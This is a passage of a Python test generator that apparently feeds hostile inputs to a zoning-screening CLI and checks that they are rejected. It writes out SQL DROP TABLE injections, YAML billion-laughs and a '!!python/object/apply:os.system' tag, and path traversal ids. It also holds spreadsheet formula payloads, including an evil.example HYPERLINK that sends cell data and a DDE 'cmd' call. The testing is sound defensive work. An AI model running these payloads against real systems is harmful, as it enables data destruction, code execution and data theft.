    for i in range(1, depth + 1):
        refs = ", ".join([f"*{key_prefix}{i - 1}"] * 9)
        out.append(f"{key_prefix}{i}: &{key_prefix}{i} [{refs}]")
    return "\n".join(out) + "\n"


def gen_catalogs(rng):
    import yaml

    cat = "catalogs"
    red = WORK.files / "geometry" / "red.geojson"
    C = WORK.files / "catalogs"
    C.mkdir(parents=True, exist_ok=True)
    rules_path = Path(base_catalog().get("rules") or (K.catalogs["guiyang"].parent / "rules" /
                                                       "three_lines.yaml"))
    access_dir = Path(base_catalog().get("access_rules") or (K.catalogs["guiyang"].parent /
                                                            "access"))

    def variant(vid, desc, mutate=None, text=None, check="not_clean|error", validate="error",
                listing=False, weight=2.0, dos=False):
        c = None
        if text is None:
            c = base_catalog()
            mutate(c)
        p = write_catalog(vid, c, text)
        if check:
            add_check(f"catalogs/{vid}", cat, f"{desc} → check", [red, "--catalog", p], check,
                      weight=weight, dos=dos)
        tmo = OPTS.dos_timeout if dos else None
        if dos:
            weight = max(weight, OPTS.dos_timeout)
        if validate:
            add(f"catalogs/{vid}-validate", cat, f"{desc} → layers validate",
                (lambda p=p, validate=validate: judge_cli(
                    run_cli(["layers", "validate", "--catalog", p], timeout=tmo), validate,
                    as_json=False)), validate, weight)
        if listing:
            add(f"catalogs/{vid}-list", cat, f"{desc} → layers list",
                (lambda p=p: judge_cli(run_cli(["layers", "list", "--catalog", p], timeout=tmo),
                                       "any", as_json=False)), "any", weight)
        return p

    def L(c, key="redline"):
        return c["layers"][key]

    variant("control", "the bundled guiyang catalog, copied (control)", lambda c: None,
            check="hit", validate="any", listing=True)
    variant("id-field-list", "id_field: [1, 2]", lambda c: L(c).update(id_field=[1, 2]))
    variant("id-field-missing-column", "id_field naming no column",
            lambda c: L(c).update(id_field="NOPE"))
    variant("crs-int", "crs: 5", lambda c: L(c).update(crs=5))
    variant("crs-bogus", "crs: EPSG:99999", lambda c: L(c).update(crs="EPSG:99999"))
    variant("crs-dict", "crs: {a: 1}", lambda c: L(c).update(crs={"a": 1}))
    variant("crs-wrong", "crs: EPSG:4524 for a layer stored in EPSG:4490",
            lambda c: L(c).update(crs="EPSG:4524"))
    variant("kind-int", "kind: 5", lambda c: L(c).update(kind=5))
    variant("kind-list", "kind: [eco_redline]", lambda c: L(c).update(kind=["eco_redline"]))
    variant("kind-missing", "no kind", lambda c: L(c).pop("kind"))
    variant("path-int", "path: 5", lambda c: L(c).update(path=5))
    variant("path-list", "path: [a, b]", lambda c: L(c).update(path=["a", "b"]))
    variant("path-dict", "path: {x: 1}", lambda c: L(c).update(path={"x": 1}))
    variant("path-empty", "path: ''", lambda c: L(c).update(path=""))
    variant("path-missing", "path to a file that does not exist",
            lambda c: L(c).update(path=str(C / "nope.gpkg")))
    variant("path-directory", "path: a directory", lambda c: L(c).update(path=str(C)))
    variant("path-text", "path: a text file", lambda c: L(c).update(
        path=str(_w(C / "text.gpkg", "not a geopackage"))))
    os.mkfifo(C / "fifo.gpkg")
    variant("path-fifo", "path: a FIFO", lambda c: L(c).update(path=str(C / "fifo.gpkg")),
            dos=True)
    variant("path-dev-zero", "path: /dev/zero", lambda c: L(c).update(path="/dev/zero"),
            dos=True)
    variant("layer-int", "layer: 7", lambda c: L(c).update(layer=7))
    variant("layer-int-1", "layer: 1 (an index: another layer)", lambda c: L(c).update(layer=1))
    variant("layer-list", "layer: [a]", lambda c: L(c).update(layer=["a"]))
    variant("where-int", "where: 5", lambda c: L(c).update(where=5))
    variant("where-bad-column", "where: no_such_col = 1",
            lambda c: L(c).update(where="no_such_col = 1"))
    variant("where-false", "where: 1 = 0 (filters out every feature)",
            lambda c: L(c).update(where="1 = 0"), check="any", validate="any")
    variant("where-recursive-cte", "where: a recursive CTE that never ends", lambda c: L(c).update(
        where="HXBM IN (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) "
              "SELECT x FROM c)"), dos=True)
    gp = C / "copy.gpkg"
    shutil.copy(L(base_catalog())["path"], gp)

    def inj(c):
        L(c).update(path=str(gp), where="1=1; DROP TABLE STBHHX; --")

    variant("where-injection", "where: '1=1; DROP TABLE STBHHX; --' (on a copy)", inj,
            validate="any")

    def after_injection():
        con = sqlite3.connect(gp)
        n = con.execute("SELECT count(*) FROM sqlite_master WHERE name='STBHHX'").fetchone()[0]
        con.close()
        if not n:
            return "security", "the catalog's where: dropped table STBHHX from the GeoPackage"
        return "correct", "table STBHHX is still there"

    TASKS.append(Task([CaseInfo("catalogs/where-injection-table-intact", cat,
                                "after the where: injection runs, STBHHX still exists", "ok")],
                      lambda: {"catalogs/where-injection-table-intact": (*after_injection(), "")},
                      -1.0))
    variant("where-load-extension", "where: load_extension('/nonexistent')",
            lambda c: L(c).update(where="load_extension('/nonexistent/x') IS NULL"))
    variant("fields-int", "fields: {name: 5}", lambda c: L(c)["fields"].update(name=5))
    variant("fields-list-int", "fields: {name: [HXMC, 7]}",
            lambda c: L(c)["fields"].update(name=["HXMC", 7]))
    variant("fields-is-list", "fields: [name]", lambda c: L(c).update(fields=["name"]))
    variant("fields-missing-column", "fields: {name: NOPE}",
            lambda c: L(c)["fields"].update(name="NOPE"))
    variant("values-list", "values: [1, 2]", lambda c: L(c).update(values=[1, 2]))
    variant("values-inner-list", "values: {pa_zone: [1]}",
            lambda c: L(c).update(values={"pa_zone": [1]}))
    variant("values-list-value", "values: {pa_zone: {核心保护区: [core]}}",
            lambda c: L(c).update(values={"pa_zone": {"核心保护区": ["core"]}}))
    variant("encoding-int", "encoding: 5", lambda c: L(c).update(encoding=5))
    variant("encoding-bogus", "encoding: no-such-codec",
            lambda c: L(c).update(encoding="no-such-codec"))
    variant("meta-types", "version: {a: 1}, source: [x], title: 5",
            lambda c: L(c).update(version={"a": 1}, source=["x"], title=5), check="hit|error",
            validate="any", listing=True)
    variant("classes-str", "landcover classes: {forest: [x]}",
            lambda c: L(c, "landcover").update(classes={"forest": ["x"]}), check="hit|error")
    variant("classes-int", "landcover classes: {forest: 20}",
            lambda c: L(c, "landcover").update(classes={"forest": 20}), check="hit|error")
    variant("region-str", "region: guiyang (a string)", lambda c: c.update(region="guiyang"))
    variant("region-id-list", "region id: [1]", lambda c: c["region"].update(id=[1]),
            check="hit|error", validate="any", listing=True)
    variant("region-id-null", "region id: null", lambda c: c["region"].update(id=None))
    variant("region-id-path", "region id: ../../etc", lambda c: c["region"].update(id="../../etc"),
            check="hit|error", validate="any")
    variant("region-name-dict", "region name: {a: 1}", lambda c: c["region"].update(name={"a": 1}),
            check="hit|error", validate="any", listing=True)
    variant("region-id-markup", "region id and name '[/]'",
            lambda c: c["region"].update(id="[/]", name="[bold]x[/] [/]"), check="hit|error",
            validate="any", listing=True)
    variant("layers-list", "layers: [] (a list)", lambda c: c.update(layers=[]))
    variant("layers-empty", "layers: {}", lambda c: c.update(layers={}))
    variant("layer-null", "a layer entry that is null", lambda c: c["layers"].update(x=None))
    variant("layer-name-markup", "a layer named '[/]'",
            lambda c: c["layers"].update({"[/]": c["layers"].pop("redline")}), check="hit|error",
            validate="any", listing=True)
    variant("layer-name-int-key", "a layer whose name is the integer 5",
            lambda c: c["layers"].update({5: c["layers"].pop("redline")}), check="hit|error",
            validate="any", listing=True)
    variant("catalog-version-str", "catalog_version: '1'",
            lambda c: c.update(catalog_version="1"), check="hit|error", validate="any")
    variant("catalog-version-2", "catalog_version: 2", lambda c: c.update(catalog_version=2))
    variant("catalog-version-list", "catalog_version: [1]",
            lambda c: c.update(catalog_version=[1]))
    variant("rules-int", "rules: 5", lambda c: c.update(rules=5))
    variant("rules-missing", "rules: a file that does not exist",
            lambda c: c.update(rules=str(C / "nope.yaml")))
    variant("access-int", "access_rules: 5", lambda c: c.update(access_rules=5))
    variant("access-missing", "access_rules: a folder that does not exist",
            lambda c: c.update(access_rules=str(C / "no-access")))
    variant("postgis-refused", "postgis layer at a closed port",
            lambda c: c["layers"].update(redline={
                "kind": "eco_redline", "postgis": {"dsn": "postgresql://127.0.0.1:1/x",
                                                   "table": "zoning.redline"},
                "crs": "EPSG:4490", "id_field": "HXBM"}))
    variant("postgis-dsn-int", "postgis dsn: 5", lambda c: c["layers"].update(redline={
        "kind": "eco_redline", "postgis": {"dsn": 5, "table": "zoning.redline"},
        "crs": "EPSG:4490", "id_field": "HXBM"}))
    variant("postgis-table-injection", "postgis table 'x; drop table y' (no server needed)",
            lambda c: c["layers"].update(redline={
                "kind": "eco_redline", "postgis": {"dsn": "env:HOSTILE_UNSET_DSN",
                                                   "table": "x; drop table y"},
                "crs": "EPSG:4490", "id_field": "HXBM"}))
    # rule files
    rules = yaml.safe_load(rules_path.read_text("utf-8"))

    def rules_variant(vid, desc, fn=None, text=None, dos=False):
        if text is None:
            r = json.loads(json.dumps(rules))
            fn(r)
            text = yaml.safe_dump(r, allow_unicode=True, sort_keys=False)
        rp = _w(C / "rules" / f"{vid}.yaml", text)
        variant(f"rules-{vid}", f"rule file: {desc}", lambda c: c.update(rules=str(rp)), dos=dos)

    rules_variant("empty", "empty file", text="")
    rules_variant("list", "a list", text="- a\n- b\n")
    rules_variant("laughs", "billion laughs", text=laughs() + "rules_version: 1\nname: *l9\n",
                  dos=True)
    rules_variant("state-junk", "a case with state 'explode'",
                  lambda r: r["layers"]["eco_redline"][0].update(state="explode"))
    rules_variant("no-catch-all", "eco_redline cases without a catch-all",
                  lambda r: r["layers"]["eco_redline"].__setitem__(
                      slice(None), [x for x in r["layers"]["eco_redline"] if x.get("when")]))
    rules_variant("when-list", "a case whose when: is a list",
                  lambda r: r["layers"]["eco_redline"][0].update(when=["relation"]))
    rules_variant("relation-str", "relation: a string, not a list",
                  lambda r: r["layers"]["eco_redline"][0]["when"].update(relation="none"))
    rules_variant("layers-list", "layers: a list", lambda r: r.update(layers=[1]))
    rules_variant("vocab-int", "vocabularies.activity: 5",
                  lambda r: r["vocabularies"].update(activity=5))
    rules_variant("basis-missing", "a case without basis",
                  lambda r: r["layers"]["eco_redline"][-1].pop("basis", None))
    # access rule folders
    def access_variant(vid, desc, content: str, name="99-broken.yaml", dos=False):
        d = C / "access" / vid
        shutil.copytree(access_dir, d, dirs_exist_ok=True)
        _w(d / name, content)
        variant(f"access-{vid}", f"access rules: {desc}", lambda c: c.update(access_rules=str(d)),
                dos=dos)

    head = 'access_version: 1\njurisdiction: {level: unit, code: "*", name: x}\n'
    rule = ("rules:\n  - id: X1\n    dimension: 空间布局约束\n    effect: {effect}\n    text: t\n"
            "    source: {{doc: d, number: n, version: v, real: false}}\n    confidence: auto\n")
    access_variant("effect-junk", "effect: explode", head + rule.format(effect="explode"))
    access_variant("param-unresolved", "energy_tce gte param:NOPE",
                   head + rule.format(effect="prohibit") + "    energy_tce: {gte: 'param:NOPE'}\n")
    access_variant("energy-str", "energy_tce gte 'abc'",
                   head + rule.format(effect="prohibit") + "    energy_tce: {gte: abc}\n")
    access_variant("industry-int", "industry: 5",
                   head + rule.format(effect="prohibit") + "    industry: 5\n")
    access_variant("rules-dict", "rules: a mapping", head + "rules: {a: 1}\n")
    access_variant("laughs", "billion laughs in a clause", laughs() + head +
                   rule.format(effect="prohibit").replace("text: t", "text: *l9"), dos=True)
    access_variant("not-yaml", "a file of binary junk", "\x00\x01\x02: [", name="98-junk.yaml")
    access_variant("deep", "rules nested 5,000 deep", head + "rules: " + "[" * 5000 + "]" * 5000)
    # text-level catalogs
    variant("text-empty", "an empty catalog file", text="")
    variant("text-null", "a catalog that is 'null'", text="null\n")
    variant("text-binary", "a catalog of binary junk",
            text="".join(chr(rng.randrange(1, 255)) for _ in range(2000)))
    p = C / "text-utf16.yaml"
    p.write_bytes(yaml.safe_dump(base_catalog(), allow_unicode=True).encode("utf-16"))
    add_check("catalogs/text-utf16", cat, "a UTF-16 catalog → check", [red, "--catalog", p],
              "not_clean|error")
    variant("text-tabs", "a catalog indented with tabs",
            text=yaml.safe_dump(base_catalog(), allow_unicode=True).replace("  ", "\t"))
    dup = yaml.safe_dump(base_catalog(), allow_unicode=True, sort_keys=False)
    variant("text-duplicate-keys", "a catalog with the layers key twice",
            text=dup + "layers: {}\n")
    variant("laughs-region-name", "YAML billion laughs as the region name",
            text=laughs() + yaml.safe_dump(base_catalog(), allow_unicode=True, sort_keys=False)
            .replace("name: 贵阳市", "name: *l9", 1), validate="error", listing=True, dos=True)
    variant("laughs-title", "YAML billion laughs as a layer title",
            text=laughs() + yaml.safe_dump(base_catalog(), allow_unicode=True, sort_keys=False)
            .replace("title: 生态保护红线", "title: *l9", 1), dos=True)
    variant("laughs-fields", "YAML billion laughs as a field alias list",
            text=laughs() + yaml.safe_dump(base_catalog(), allow_unicode=True, sort_keys=False)
            .replace("name: HXMC", "name: *l9", 1), dos=True)
    variant("deep-nesting", "a value nested 20,000 lists deep",
            text="region: {id: x}\nlayers: " + "[" * 20000 + "]" * 20000 + "\n")
    pwn = WORK.root / "pwned-by-yaml"
    variant("python-tag", "a !!python/object/apply tag",
            text=f"region: !!python/object/apply:os.system ['touch {pwn}']\nlayers: {{}}\n")
    add("catalogs/python-tag-not-executed", cat, "the !!python tag did not run",
        lambda: ("security", f"{pwn} was created: YAML tag executed") if pwn.exists()
        else ("correct", "nothing executed"), "ok", weight=-2)
    os.mkfifo(C / "fifo.yaml")
    add_check("catalogs/catalog-fifo", cat, "the catalog is a FIFO → check",
              [red, "--catalog", C / "fifo.yaml"], "error", dos=True)
    (C / "emptydir").mkdir()
    add_check("catalogs/catalog-empty-dir", cat, "--catalog: a folder without catalogs → check",
              [red, "--catalog", C / "emptydir"], "not_clean|error")
    cp = write_catalog("dup1", base_catalog())
    add_check("catalogs/two-same-region", cat, "the same region passed twice → check",
              [red, "--catalog", cp, "--catalog", K.catalogs["guiyang"]], "hit|error")
    # template payloads in the catalog's region name, layer name and feature names
    for pi, payload in enumerate(TEMPLATES):
        k = new_marker(pi)
        c = base_catalog()
        c["region"]["name"] = marked(k)
        p = write_catalog(f"tpl-region-{pi}", c)
        o = WORK.outs / f"tpl-region-{pi}.html"
        add_check(f"catalogs/template-region-name-{pi}", cat,
                  f"{payload!r} as the catalog region name → indicators --map",
                  ["--catalog", p, "--map", o, "--basemap", "none"], "any", cmd="indicators",
                  as_json=False, scan=Scan(markers={k: payload}), files=[o])
        k2 = new_marker(pi)
        c = base_catalog()
        c["layers"][marked(k2)] = c["layers"].pop("redline")
        p = write_catalog(f"tpl-layer-{pi}", c)
        lst = write_list([red_row(rng), clean_row(rng)], WORK.lists / f"tpl-layer-{pi}.csv")

        def fn(p=p, lst=lst, k=k2, payload=payload, pi=pi):
            out = out_dir(f"tpl-layer-{pi}")
            run = run_cli(["screen", lst, "--out", out, "--catalog", p])
            r = judge_list_run(run, out, ["hit", "clean"], "ok", Scan(markers={k: payload}))
            return r
        add(f"catalogs/template-layer-name-{pi}", cat,
            f"{payload!r} as a catalog layer name → screen with maps", fn, "ok", 5)
    # feature names from the data itself
    import geopandas as gpd

    spec = L(base_catalog())
    layer = gpd.read_file(spec["path"], layer=spec["layer"])
    ks = []
    for pi, payload in enumerate(TEMPLATES):
        k = new_marker(pi)
        ks.append((k, payload))
        layer.loc[pi, "HXMC"] = marked(k)
        layer.loc[pi, "HXBM"] = marked(new_marker(pi))
    layer.loc[layer["HXBM"] == K.red_id, "HXMC"] = marked(ks[0][0])
    gp2 = write_gpkg_layers(C / "names.gpkg", {spec["layer"]: layer})
    c = base_catalog()
    L(c)["path"] = str(gp2)
    p = write_catalog("feature-names", c)
    lst = write_list([red_row(rng), clean_row(rng)], WORK.lists / "feature-names.csv")

    def fn_names():
        out = out_dir("feature-names")
        run = run_cli(["screen", lst, "--out", out, "--catalog", p, "--radius", "100000"])
        return judge_list_run(run, out, ["hit", "clean"], "ok",
                              Scan(markers={k: pl for k, pl in ks}))
    add("catalogs/template-feature-names", cat, "template payloads as red-line feature names "
        "(HXMC) and ids in the layer data → screen with maps", fn_names, "ok", 8)


# --------------------------------------------------------------------------- outputs

FORMULAS = ["=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-1+2",
            "@SUM(1,2)", "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0",
            '=IMPORTXML("http://evil.example","//a")']
OUTPUT_FILES = ("results.json", "screening.xlsx", "failed_rows.csv", "screening.log",
                "overlaps.gpkg", "maps/index.html")


def run_tags(out: Path) -> tuple[dict, list]:
    """{file: {"OLD"|"NEW"|"missing"|"corrupt"}} and the leftover temporary files."""
    def t(text):
        return {m for m in ("OLD", "NEW") if f"{m}-" in text} or {"none"}

    tags = {}
    for name in OUTPUT_FILES:
        p = out / name
        if not p.exists():
            tags[name] = {"missing"}
            continue
        try:
            if name.endswith(".json"):
                json.loads(p.read_text("utf-8"))
                tags[name] = t(p.read_text("utf-8"))
            elif name.endswith(".xlsx"):
                tags[name] = t("\n".join(str(c.value) for _, c in _xlsx_cells(p)))
            elif name.endswith(".gpkg"):
                con = sqlite3.connect(f"file:{p}?mode=ro", uri=True)
                ids = [r[0] for r in con.execute("SELECT project_id FROM overlaps")]
                con.close()
                tags[name] = t("\n".join(map(str, ids)))
            else:
                tags[name] = t(p.read_text("utf-8", errors="replace"))
        except Exception as e:  # noqa: BLE001
            tags[name] = {f"corrupt ({type(e).__name__})"}
    maps = sorted(x.name for x in (out / "maps").glob("*.html") if x.name != "index.html") \
        if (out / "maps").is_dir() else []
    tags["maps/*.html"] = t("\n".join(maps)) if maps else {"missing"}
    leftovers = [str(p.relative_to(out)) for p in out.rglob("*")
                 if p.name.startswith(".") or p.suffix in (".tmp", ".part", ".partial")]
    return tags, leftovers


def consistency(out: Path, allowed=("OLD", "NEW")):
    tags, left = run_tags(out)
    kinds = {frozenset(v) for v in tags.values()}
    whole = [w for w in allowed if kinds == {frozenset({w})}]
    desc = ", ".join(f"{k}={'+'.join(sorted(v))}" for k, v in tags.items())
    if whole and not left:
        return True, f"wholly the {whole[0].lower()} run", whole[0]
    why = [] if whole else [f"mixed output folder: {desc}"]
    if left:
        why.append(f"temporary leftovers: {', '.join(left[:4])}")
    return False, "; ".join(why), None


def gen_outputs(rng):
    cat = "outputs"
    red = K.red_ll
    # formula injection: in names and ids, of rows that succeed and rows that fail
    tag = iter(range(1, 10 ** 6))

    def uniq(f):  # still a formula, but each row's own (…&"F7"), so evidence is attributable
        return f'{f}&"F{next(tag)}"'

    for i, f0 in enumerate(FORMULAS):
        for col in ("项目名称", "项目编号"):
            f = uniq(f0)
            add_row(f"outputs/formula-{col}-ok-{i}", cat, f"{f!r} as {col} of a good row",
                    {col: f, **red_row(rng)}, "hit", formula=f)
            f = uniq(f0)
            add_row(f"outputs/formula-{col}-failed-{i}", cat,
                    f"{f!r} as {col} of a failing row (failed_rows.csv)",
                    {col: f, "wkt": "POLYGON((106.6 26.5, 106.7"}, "error", formula=f)
        f = uniq(f0)
        add_row(f"outputs/formula-xlsx-{i}", cat, f"{f!r} as the name in an XLSX list",
                {"项目名称": f, **red_row(rng)}, "hit", formula=f, fmt="xlsx")
    add_row("outputs/id-path-traversal", cat, "project id ../../../escape-map (map file names)",
            {"项目编号": "../../../escape-map", **red_row(rng)}, "hit",
            not_created=[WORK.outs / "escape-map.html", WORK.root / "escape-map.html",
                         WORK.outs.parent / "escape-map.html"])
    # --name and the footprint file name as template payloads (check --map)
    redf = WORK.files / "geometry" / "red.geojson"
    for pi, payload in enumerate(TEMPLATES):
        k = new_marker(pi)
        o = WORK.outs / f"name-{pi}.html"
        add_check(f"outputs/template-name-option-{pi}", cat, f"{payload!r} as --name (check --map)",
                  [redf, "--name", marked(k), "--map", o, "--basemap", "none"], "hit",
                  scan=Scan(markers={k: payload}), files=[o])
        if "/" in payload or "\x00" in payload:
            continue
        k = new_marker(pi)
        fp = write_geojson(WORK.files / "names" / f"{marked(k)}.geojson", [red])
        o = WORK.outs / f"fname-{pi}.html"
        add_check(f"outputs/template-file-name-{pi}", cat,
                  f"{payload!r} in the footprint file name (check --map)",
                  [fp, "--map", o, "--basemap", "none"], "hit", scan=Scan(markers={k: payload}),
                  files=[o])
    for pi in (3, 8):
        k = new_marker(pi)
        o = WORK.outs / f"tdt-{pi}.html"
        add_check(f"outputs/tianditu-key-{pi}", cat, f"{TEMPLATES[pi]!r} as --tianditu-key",
                  [redf, "--map", o, "--basemap", "tianditu", "--tianditu-key", marked(k)], "hit",
                  scan=Scan(markers={k: TEMPLATES[pi]}), files=[o])
    add_check("outputs/tianditu-no-key", cat, "--basemap tianditu without a key",
              [redf, "--map", WORK.outs / "tdt-none.html", "--basemap", "tianditu"], "error")
    add_check("outputs/map-to-directory", cat, "--map pointing at an existing directory",
              [redf, "--map", WORK.outs, "--basemap", "none"], "error")
    add_check("outputs/map-nested-new-dir", cat, "--map into folders that do not exist yet",
              [redf, "--map", WORK.outs / "a" / "b" / "m.html", "--basemap", "none"], "hit")
    lst = write_list([red_row(rng), clean_row(rng)], WORK.lists / "outputs-small.csv")

    def screen_into(out, *extra):
        return run_cli(["screen", lst, "--out", out, *extra])

    f = _w(WORK.outs / "a-file", "x")
    add("outputs/out-is-file", cat, "--out is an existing regular file",
        lambda: judge_cli(screen_into(f), "error", as_json=False), "error")
    add("outputs/out-under-file", cat, "--out below a regular file",
        lambda: judge_cli(screen_into(f / "sub"), "error", as_json=False), "error")
    mk = WORK.outs / "[bold]x[" / "[/]out"
    add("outputs/out-markup", cat, "--out path with rich markup '[/]'",
        lambda: judge_cli(screen_into(mk), "any", as_json=False), "any")

    def keeps_user_file():
        out = out_dir("keep-user-file")
        first = screen_into(out)
        if first.rc != 0:
            return judge_cli(first, "any", as_json=False)
        _w(out / "我的笔记.txt", "user notes")
        _w(out / "maps" / "user.html", "user page")
        run = screen_into(out, "--overwrite")
        b = base_outcome(run)
        if b:
            return b
        lost = [n for n in ("我的笔记.txt", "maps/user.html") if not (out / n).exists()]
        if lost:
            return "silent wrong", f"--overwrite deleted the user's files {lost}"
        return "correct", "unrelated files kept"
    add("outputs/overwrite-keeps-user-files", cat, "--overwrite keeps unrelated files in --out",
        keeps_user_file, "ok", 6)

    def refuses_existing():
        out = out_dir("refuse-existing")
        first = screen_into(out)
        if first.rc != 0:
            return judge_cli(first, "any", as_json=False)
        return judge_cli(screen_into(out), "error", as_json=False)
    add("outputs/existing-without-overwrite", cat, "a second run into --out without --overwrite",
        refuses_existing, "error", 6)
    gen_kill_suite(rng)


def gen_kill_suite(rng):
    cat = "outputs"
    n = OPTS.kill_rows
    old_rows = [dict(red_row(rng) if i % 2 else clean_row(rng), 项目编号=f"OLD-{i:03d}")
                for i in range(n)] + [{"项目编号": "OLD-BAD", "wkt": "POLYGON((1"}]
    new_rows = [dict(red_row(rng) if i % 2 else clean_row(rng), 项目编号=f"NEW-{i:03d}")
                for i in range(n)] + [{"项目编号": "NEW-BAD", "wkt": "POLYGON((1"}]
    old_l = write_list(old_rows, WORK.lists / "kill-old.csv")
    new_l = write_list(new_rows, WORK.lists / "kill-new.csv")
    delays = [0.5, 1.0, 2.0]
    fracs = [0.3, 0.5, 0.7, 0.8, 0.85, 0.9, 0.93, 0.96, 0.98, 1.0]
    ids = (["outputs/run-old", "outputs/overwrite-complete"]
           + [f"outputs/kill-{d:.1f}s" for d in delays]
           + [f"outputs/kill-{int(f * 100)}pct" for f in fracs]
           + ["outputs/concurrent-fresh", "outputs/concurrent-overwrite"])
    descs = {"outputs/run-old": f"first run ({n + 1} rows, maps) into --out",
             "outputs/overwrite-complete": "a second run with --overwrite, not interrupted: "
                                           "the folder must be wholly the new run",
             "outputs/concurrent-fresh": "two screens into one fresh --out at once: one must be "
                                         "refused",
             "outputs/concurrent-overwrite": "two screens with --overwrite into one --out at once"}
    for d in delays:
        descs[f"outputs/kill-{d:.1f}s"] = f"SIGKILL an --overwrite run after {d} s"
    for f in fracs:
        descs[f"outputs/kill-{int(f * 100)}pct"] = f"SIGKILL an --overwrite run at {f:.0%} of its " \
                                                   "duration"
    infos = [CaseInfo(i, cat, descs[i], "ok") for i in ids]

    def suite():
        res = {}
        base = out_dir("kill-base")
        run = run_cli(["screen", old_l, "--out", base])
        ok, why, _ = consistency(base, ("OLD",))
        b = base_outcome(run)
        if b or run.rc != 0 or not ok:
            r = b or (refusal(run, "ok")[:2] if run.rc != 0 else ("silent wrong", why))
            res["outputs/run-old"] = (*r, "")
            for i in ids[1:]:
                res[i] = ("clear error", "not run: the first screening run failed",
                          "skipped: depends on outputs/run-old")
            return res
        res["outputs/run-old"] = ("correct", f"{run.seconds:.1f} s, {why}", "")

        def fresh(name):
            o = out_dir(name)
            shutil.copytree(base, o)
            return o

        o = fresh("kill-control")
        run = run_cli(["screen", new_l, "--out", o, "--overwrite"])
        T = run.seconds
        b = base_outcome(run)
        if b:
            res["outputs/overwrite-complete"] = (*b, "")
        else:
            ok, why, which = consistency(o, ("NEW",))
            res["outputs/overwrite-complete"] = ("correct" if ok else "silent wrong",
                                                 f"{T:.1f} s; {why}", "")
        for label, delay in [(f"outputs/kill-{d:.1f}s", d) for d in delays] + \
                            [(f"outputs/kill-{int(f * 100)}pct", f * T) for f in fracs]:
            o = fresh(label.split("/")[1])
            p, so, se, t0 = start(["screen", new_l, "--out", o, "--overwrite"])
            while time.monotonic() - t0 < delay and p.poll() is None:
                time.sleep(0.01)
            finished = p.poll() is not None
            if not finished:
                os.kill(p.pid, signal.SIGKILL)
            p.wait()
            ok, why, which = consistency(o)
            if finished and ok and which != "NEW":
                ok, why = False, "the run finished, yet the folder holds the old run"
            when = "finished before the kill" if finished else f"killed after {delay:.2f} s"
            res[label] = ("correct" if ok else "silent wrong", f"{when}: {why}", "")
        for label, overwrite in (("outputs/concurrent-fresh", False),
                                 ("outputs/concurrent-overwrite", True)):
            o = fresh(label.split("/")[1]) if overwrite else out_dir(label.split("/")[1])
            extra = ["--overwrite"] if overwrite else []
            pa = start(["screen", old_l, "--out", o, *extra])
            pb = start(["screen", new_l, "--out", o, *extra])
            ra = finish(*pa, ["screen", old_l])
            rb = finish(*pb, ["screen", new_l])
            bad = base_outcome(ra) or base_outcome(rb)
            ok, why, which = consistency(o)
            codes = f"exit codes {ra.rc} (old list) and {rb.rc} (new list)"
            if bad:
                res[label] = (*bad, "")
            elif ra.rc == 0 and rb.rc == 0:
                res[label] = ("silent wrong", f"both runs succeeded into one --out ({codes}); "
                              f"{why}", "")
            elif ra.rc != 0 and rb.rc != 0:
                res[label] = ("clear error", f"both refused ({codes}): {error_message(ra)}", "")
            else:
                loser = ra if ra.rc != 0 else rb
                winner = "NEW" if ra.rc != 0 else "OLD"
                if not ok or which != winner:
                    res[label] = ("silent wrong", f"one refused ({codes}) but {why}", "")
                else:
                    res[label] = ("correct", f"one refused clearly: {error_message(loser)}", "")
        return res

    TASKS.append(Task(infos, suite, 200.0))


# --------------------------------------------------------------------------- PostGIS


def gen_postgis(rng):
    """PostGIS cases, in one sequential suite (they share an imported schema)."""
    import yaml

    cat = "postgis"
    dsn = os.environ.get("ZONING_TEST_PG_DSN")
    schema = f"hostile_{os.getpid()}_{OPTS.seed}"
    red = WORK.files / "geometry" / "red.geojson"
    clean = WORK.files / "geometry" / "clean.geojson"
    P = WORK.files / "postgis"
    P.mkdir(parents=True, exist_ok=True)
    injections = [  # (id, description, change to the redline entry, canary it aims at)
        ("table-semicolon", "postgis table 'S.x; DROP TABLE S.canary_1'",
         lambda e: e["postgis"].update(table=f"{schema}.x; DROP TABLE {schema}.canary_1"), 1),
        ("table-quote", "postgis table with a closing quote and DROP",
         lambda e: e["postgis"].update(
             table=f'{schema}.guiyang_redline"; DROP TABLE {schema}.canary_2; --'), 2),
        ("table-where", "postgis table 'S.guiyang_redline WHERE 1=1; DROP …'",
         lambda e: e["postgis"].update(
             table=f"{schema}.guiyang_redline WHERE 1=1; DROP TABLE {schema}.canary_3"), 3),
        ("geometry-injection", "postgis geometry column name with a quote and DROP",
         lambda e: e["postgis"].update(
             geometry=f'geom") FROM {schema}.guiyang_redline; DROP TABLE {schema}.canary_4; --'),
         4),
        ("table-int", "postgis table: 5", lambda e: e["postgis"].update(table=5), None),
        ("table-list", "postgis table: [a]", lambda e: e["postgis"].update(table=["a"]), None),
        ("table-three-parts", "postgis table a.b.c", lambda e: e["postgis"].update(table="a.b.c"),
         None),
        ("geometry-int", "postgis geometry: 5", lambda e: e["postgis"].update(geometry=5), None),
        ("dsn-int", "postgis dsn: 5", lambda e: e["postgis"].update(dsn=5), None),
        ("dsn-env-unset", "postgis dsn env:UNSET", lambda e: e["postgis"].update(
            dsn="env:HOSTILE_UNSET_DSN"), None),
        ("dsn-junk", "postgis dsn 'host=/nonexistent'", lambda e: e["postgis"].update(
            dsn="host=/nonexistent dbname=x connect_timeout=2"), None),
        ("table-missing", "postgis table that does not exist",
         lambda e: e["postgis"].update(table=f"{schema}.nope"), None),
        ("table-not-geometry", "postgis table without a geometry column (a canary)",
         lambda e: e["postgis"].update(table=f"{schema}.canary_9"), None),
        ("table-system", "postgis table pg_catalog.pg_authid",
         lambda e: e["postgis"].update(table="pg_catalog.pg_authid"), None),
        ("geometry-missing", "postgis geometry column that does not exist",
         lambda e: e["postgis"].update(geometry="nope"), None),
    ]
    ids = ["postgis/import", "postgis/red", "postgis/clean", "postgis/screen"]
    descs = {"postgis/import": "layers import of the guiyang catalog into a fresh schema",
             "postgis/red": "check the red-line box against the imported catalog",
             "postgis/clean": "check the clean box against the imported catalog",
             "postgis/screen": "screen a small list against the imported catalog"}
    for iid, desc, _, _ in injections:
        ids += [f"postgis/{iid}", f"postgis/{iid}-validate"]
        descs[f"postgis/{iid}"] = f"{desc} → check"
        descs[f"postgis/{iid}-validate"] = f"{desc} → layers validate"
    extra = [("schema-injection", "layers import --schema with a quote and DROP"),
